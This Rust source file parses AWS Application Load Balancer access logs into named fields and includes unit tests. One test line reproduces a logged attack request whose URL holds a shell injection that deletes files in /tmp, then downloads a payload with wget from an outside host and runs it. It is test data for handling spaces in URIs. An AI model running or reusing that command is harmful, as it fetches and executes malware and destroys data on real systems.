//! Application Load Balancer access logs.
//!
//! Columns as in AWS's "Create the table for ALB access logs" (Athena User
//! Guide). Values are kept as AWS writes them (`-` stays `-` in string
//! columns, as AWS's RegexSerDe table keeps it); a numeric field that is
//! `-` or not a number reads as NULL. Lines from older load balancers lack
//! the later fields (NULL); fields AWS adds after `conn_trace_id` are
//! ignored. NLB and ALB connection-log lines are not ALB access entries and
//! are rejected as such.

use super::FieldType::{Float64, Int32, Int64, Utf8};
use super::{
    FieldSpec, LineError, LineGrammar, LineParser, Span, Tokens, specs, split_host_port,
    split_request,
};

/// The ALB access log grammar.
#[derive(Debug)]
pub struct Alb {
    fields: Vec<FieldSpec>,
}

impl Alb {
    /// The grammar.
    pub fn new() -> Self {
        Self {
            fields: specs(&[
                ("type", Utf8),
                ("time", Utf8),
                ("elb", Utf8),
                ("client_ip", Utf8),
                ("client_port", Int32),
                ("target_ip", Utf8),
                ("target_port", Int32),
                ("request_processing_time", Float64),
                ("target_processing_time", Float64),
                ("response_processing_time", Float64),
                ("elb_status_code", Int32),
                ("target_status_code", Utf8),
                ("received_bytes", Int64),
                ("sent_bytes", Int64),
                ("request_verb", Utf8),
                ("request_url", Utf8),
                ("request_proto", Utf8),
                ("user_agent", Utf8),
                ("ssl_cipher", Utf8),
                ("ssl_protocol", Utf8),
                ("target_group_arn", Utf8),
                ("trace_id", Utf8),
                ("domain_name", Utf8),
                ("chosen_cert_arn", Utf8),
                ("matched_rule_priority", Utf8),
                ("request_creation_time", Utf8),
                ("actions_executed", Utf8),
                ("redirect_url", Utf8),
                ("lambda_error_reason", Utf8),
                ("target_port_list", Utf8),
                ("target_status_code_list", Utf8),
                ("classification", Utf8),
                ("classification_reason", Utf8),
                ("conn_trace_id", Utf8),
            ]),
        }
    }
}

impl Default for Alb {
    fn default() -> Self {
        Self::new()
    }
}

impl LineGrammar for Alb {
    fn name(&self) -> &str {
        "alb"
    }
    fn fields(&self) -> &[FieldSpec] {
        &self.fields
    }
    fn parser(&self) -> Box<dyn LineParser> {
        Box::new(AlbParser {
            cut: self.fields.len(),
        })
    }
}

struct AlbParser {
    /// Fields from this index on are not wanted (and not cut).
    cut: usize,
}

/// Whether `text` starts like an ISO-8601 timestamp (`2018-07-02T...`).
pub(crate) fn looks_like_iso_time(text: &str) -> bool {
    let b = text.as_bytes();
    b.len() >= 11 && b[..4].iter().all(u8::is_ascii_digit) && b[4] == b'-' && b[10] == b'T'
}

impl LineParser for AlbParser {
    fn header_line(&mut self, line: &str) -> bool {
        // AWS's own files never have one, but a bare `#` line occurs in the wild.
        line.starts_with('#')
    }

    fn want(&mut self, wanted: &[bool]) {
        self.cut = wanted.iter().rposition(|&w| w).map_or(0, |last| last + 1);
    }

    fn parse(&mut self, line: &str, out: &mut [Span]) -> Result<(), LineError> {
        let cut = self.cut.min(out.len());
        let mut tokens = Tokens::new(line);
        let mut take = || tokens.next().map(|t| t.span);
        let kind = take().ok_or_else(|| LineError::new("empty line"))?;
        let time = take().ok_or_else(|| LineError::new("no time field"))?;
        if !looks_like_iso_time(&line[time.clone()]) {
            return Err(LineError::new(format!(
                "second field '{}' is not a timestamp: not an ALB access log entry \
                 (an NLB or ALB connection log line?)",
                &line[time]
            )));
        }
        // Each group of fields is cut only if a wanted field is in it or
        // after it; the two checked above are always cut.
        out[0] = Some(kind);
        out[1] = Some(time);
        if cut <= 2 {
            return Ok(());
        }
        out[2] = take();
        if cut <= 3 {
            return Ok(());
        }
        if let Some(client) = take() {
            (out[3], out[4]) = split_host_port(line, client);
        }
        if cut <= 5 {
            return Ok(());
        }
        if let Some(target) = take() {
            (out[5], out[6]) = split_host_port(line, target);
        }
        for slot in out.iter_mut().take(cut.min(14)).skip(7) {
            *slot = take();
        }
        if cut <= 14 {
            return Ok(());
        }
        if let Some(request) = take() {
            (out[14], out[15], out[16]) = split_request(line, request);
        }
        for slot in out.iter_mut().take(cut).skip(17) {
            *slot = take();
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::grammar::parse_named;

    const CLO: &str = include_str!("../../../testdata/alb/clo_elb.log");

    #[test]
    fn a_wanted_field_is_cut_as_in_a_full_parse() {
        let lines: Vec<&str> = CLO.lines().collect();
        crate::grammar::assert_wanted_fields_agree(&Alb::new(), &lines);
    }

    #[test]
    fn real_lines_first_and_last() {
        let lines: Vec<&str> = CLO.lines().collect();
        let rows = parse_named(&Alb::new(), &lines).unwrap();
        let r = &rows[0];
        assert_eq!(r["type"], Some("https"));
        assert_eq!(r["time"], Some("2021-12-03T04:20:02.215468Z"));
        assert_eq!(r["client_ip"], Some("128.14.134.170"));
        assert_eq!(r["client_port"], Some("39426"));
        assert_eq!(r["target_port"], Some("443"));
        assert_eq!(r["elb_status_code"], Some("302"));
        assert_eq!(r["request_verb"], Some("GET"));
        assert_eq!(r["request_url"], Some("https://1.35.133.122:443/"));
        assert_eq!(r["request_proto"], Some("HTTP/1.1"));
        assert_eq!(r["ssl_protocol"], Some("TLSv1.2"));
        assert_eq!(
            r["trace_id"],
            Some("Root=1-61a99af2-1e6aa85b5931eebe0e2af88b")
        );
        assert_eq!(r["domain_name"], Some("-"));
        assert_eq!(r["actions_executed"], Some("forward"));
        assert_eq!(r["target_port_list"], Some("10.255.3.161:443"));
        assert_eq!(r["target_status_code_list"], Some("302"));
        assert_eq!(r["classification_reason"], Some("-"));
        assert_eq!(r["conn_trace_id"], None);
        let r = &rows[1];
        assert_eq!(r["target_processing_time"], Some("-1"));
        assert_eq!(r["elb_status_code"], Some("460"));
        assert_eq!(r["target_status_code"], Some("-"));
        assert_eq!(r["request_url"], Some("https://test.com:443/_dashboards"));
        assert_eq!(r["domain_name"], Some("nginx.awssolution.xyz"));
    }

    #[test]
    fn space_in_uri_and_no_target() {
        let line = r#"http 2022-05-12T06:41:29.051646Z app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws" "-" "-" "-" "Acceptable" "SpaceInUri""#;
        let r = &parse_named(&Alb::new(), &[line]).unwrap()[0];
        assert_eq!(r["target_ip"], None);
        assert_eq!(r["target_port"], None);
        assert_eq!(
            r["request_url"],
            Some(
                "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"
            )
        );
        assert_eq!(r["user_agent"], Some("Hello, world"));
        assert_eq!(r["classification"], Some("Acceptable"));
        assert_eq!(r["classification_reason"], Some("SpaceInUri"));
    }

    #[test]
    fn newest_line_with_conn_trace_id() {
        let line = r#"http 2025-05-01T11:24:32.748149Z app/internal-service-alb/abcd1234efgh5678 127.0.0.1:57273 - -1 -1 -1 200 - 0 272 "- http://internal-service-alb.example.com:80-/ " "-" - - - "-" "-" "-" - 2025-05-01T11:24:32.720000Z "-" "-" "-" "-" "-" "-" "-" TID_00000000000000000000000000000000"#;
        let r = &parse_named(&Alb::new(), &[line]).unwrap()[0];
        assert_eq!(r["request_verb"], Some("-"));
        assert_eq!(
            r["request_url"],
            Some("http://internal-service-alb.example.com:80-/")
        );
        assert_eq!(r["request_proto"], Some(""));
        assert_eq!(
            r["conn_trace_id"],
            Some("TID_00000000000000000000000000000000")
        );
    }

    #[test]
    fn nlb_and_connection_log_lines_are_rejected() {
        let nlb = "tls 2.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 192.168.131.39:2817 10.0.0.1:80 5 2 98 246 -";
        let err = parse_named(&Alb::new(), &[nlb]).unwrap_err();
        assert!(err.reason.contains("not an ALB access log entry"), "{err}");
        let conn = "2024-11-29T13:45:24.599544Z 172.31.43.26 58206 80 - - - \"-\" - - - TID_16132ed0b4112148";
        assert!(parse_named(&Alb::new(), &[conn]).is_err());
    }

    #[test]
    fn aws_documented_example() {
        let doc = include_str!("../../../testdata/alb/aws_docs_examples.log");
        let lines: Vec<&str> = doc.lines().collect();
        let rows = parse_named(&Alb::new(), &lines).unwrap();
        assert!(!rows.is_empty());
        let r = &rows[0];
        assert_eq!(r["type"], Some("http"));
        assert_eq!(r["elb"], Some("app/my-loadbalancer/50dc6c495c0c9188"));
        assert_eq!(r["client_ip"], Some("192.168.131.39"));
        assert_eq!(r["user_agent"], Some("curl/7.46.0"));
    }
}
